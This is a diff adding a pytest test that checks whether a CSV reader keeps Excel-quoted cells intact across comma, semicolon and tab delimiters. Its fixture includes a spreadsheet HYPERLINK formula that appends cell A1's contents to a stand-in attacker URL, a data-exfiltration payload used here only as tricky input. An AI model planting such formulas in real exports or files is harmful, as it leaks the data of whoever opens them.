@@ -997,3 +997,23 @@ def test_an_aim_under_two_priorities_in_a_table_is_a_located_error(tmp_path: Pat
     [error] = caught.value.errors
     assert (error.where, error.field) == ("row 3", "aim")
     assert error.message.startswith("aim SE1 is already under priority SE")
+
+
+@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
+def test_a_csv_cell_with_quotes_is_read_exactly_wherever_it_is(
+    tmp_path: Path, delimiter: str
+) -> None:
+    """Excel writes " inside a quoted cell as "". The delimiter is guessed from the start of
+    the file, but quoting is always Excel's, even when the start holds no "" (a formula in
+    commentary, `=HYPERLINK("…","…")`, arrived cut short before)."""
+    from bot.register import read_csv_rows
+
+    tricky = '=HYPERLINK("https://evil.example/?d="&A1,"Board papers"); a; b'
+    rows = [["ref", "period", "value", "commentary"]]
+    rows += [["SE1.1", f"2025-{m:02d}", "1", "Plain, with a comma"] for m in range(1, 13)] * 9
+    rows.append(["SE1.1", "2026-01", "2", tricky])
+    path = tmp_path / "actuals.csv"
+    with path.open("w", newline="", encoding="utf-8") as handle:
+        csv.writer(handle, delimiter=delimiter).writerows(rows)
+    assert path.stat().st_size > 4096  # the "" comes after the part that is sniffed
+    assert read_csv_rows(path, "actuals file") == rows
